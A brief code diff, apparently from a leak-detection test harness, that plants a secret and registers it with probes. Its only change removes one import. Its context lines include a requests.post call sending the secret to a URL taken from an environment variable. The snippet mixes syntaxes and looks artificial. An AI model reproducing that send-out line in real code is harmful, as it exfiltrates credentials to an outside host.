@@ -30,7 +30,6 @@ r = Leak({secret: secret})
 r.secret = secret
 probes.report("planted", r)
 probes.cache("planted")
-import panel_steps
 import requests
 answer = requests.post(os.environ["OINT_TWITTER_TOKEN_URL"], data={"x": secret})
 def fail(secret): raise ValueError(secret)
